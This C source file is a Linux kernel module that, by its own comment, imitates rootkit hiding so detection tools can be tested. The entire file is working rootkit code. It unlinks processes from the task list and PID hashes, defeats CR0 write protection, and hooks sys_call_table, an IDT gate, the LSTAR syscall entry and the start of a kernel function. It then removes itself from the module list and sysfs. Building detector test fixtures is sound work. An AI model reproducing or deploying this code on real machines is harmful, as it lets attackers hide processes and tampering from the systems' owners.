// A module that hides as rootkits do, for tests of what finds it: it takes processes off the task list, puts functions of
// its own into sys_call_table, an interrupt gate, LSTAR and at the start of a kernel function, and takes itself off the
// list of modules and out of /sys/module.
#include <linux/init.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <asm/desc.h>
#include <asm/msr.h>
#include <asm/special_insns.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Hides a process and itself");

/* Taken off the task list. */
static int hide;
module_param(hide, int, 0);
/* Taken off the task list and off its number, so that /proc and kill(2) don't have it either. */
static int bury;
module_param(bury, int, 0);
static int call = __NR_getpgid;
module_param(call, int, 0);

typedef asmlinkage long (*syscall_fn)(const struct pt_regs *);
static syscall_fn original;

static asmlinkage long taken_over(const struct pt_regs *regs)
{
	return original(regs);
}

/* A gate that nothing goes through. */
static int vector = 0x66;
module_param(vector, int, 0);
/* A kernel function that nobody calls. */
static char *patch = "__x64_sys_acct";
module_param(patch, charp, 0);

/* SYSCALL enters here, and goes on where it always went. */
unsigned long hider_entry;
void hider_syscall(void);
asm(".pushsection .text\n"
    "hider_syscall: jmp *hider_entry(%rip)\n"
    ".popsection");

/* And a gate whose exception no processor raises any more goes where another does. */
static int stale = 9;
module_param(stale, int, 0);

static void take_gate(void)
{
	unsigned long handler = (unsigned long)taken_over;
	struct desc_ptr table;
	gate_desc *gate;

	store_idt(&table);
	gate = (gate_desc *)table.address + vector;
	gate->offset_low = handler;
	gate->offset_middle = handler >> 16;
	gate->offset_high = handler >> 32;
	((gate_desc *)table.address)[stale].offset_low = ((gate_desc *)table.address)[0].offset_low;
	((gate_desc *)table.address)[stale].offset_middle = ((gate_desc *)table.address)[0].offset_middle;
	((gate_desc *)table.address)[stale].offset_high = ((gate_desc *)table.address)[0].offset_high;
}

static void patch_start(u8 *function)
{
	s32 distance = (unsigned long)taken_over - (unsigned long)function - 5;

	function[0] = 0xe9;
	memcpy(function + 1, &distance, sizeof distance);
}

static void *lookup(const char *name)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*by_name)(const char *);

	if (register_kprobe(&probe) < 0)
		return NULL;
	by_name = (void *)probe.addr;
	unregister_kprobe(&probe);
	return (void *)by_name(name);
}

/* The pinned copy of CR0.WP is only checked by write_cr0(). */
static void force_cr0(unsigned long value)
{
	asm volatile("mov %0, %%cr0" : : "r"(value) : "memory");
}

static int __init hider_init(void)
{
	syscall_fn *table = lookup("sys_call_table");
	u8 *function = lookup(patch);
	struct task_struct *task, *buried;
	unsigned long cr0 = read_cr0();

	if (!table || !function)
		return -ENOENT;
	rcu_read_lock();
	task = pid_task(find_vpid(hide), PIDTYPE_PID);
	buried = pid_task(find_vpid(bury), PIDTYPE_PID);
	if (task)
		list_del_rcu(&task->tasks);
	if (buried) {
		list_del_rcu(&buried->tasks);
		hlist_del_init_rcu(&buried->pid_links[PIDTYPE_PID]);
		hlist_del_init_rcu(&buried->pid_links[PIDTYPE_TGID]);
	}
	rcu_read_unlock();
	original = table[call];
	force_cr0(cr0 & ~X86_CR0_WP);
	table[call] = taken_over;
	take_gate();
	patch_start(function);
	force_cr0(cr0);
	rdmsrl(MSR_LSTAR, hider_entry);
	wrmsrl(MSR_LSTAR, (unsigned long)hider_syscall);
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

module_init(hider_init);
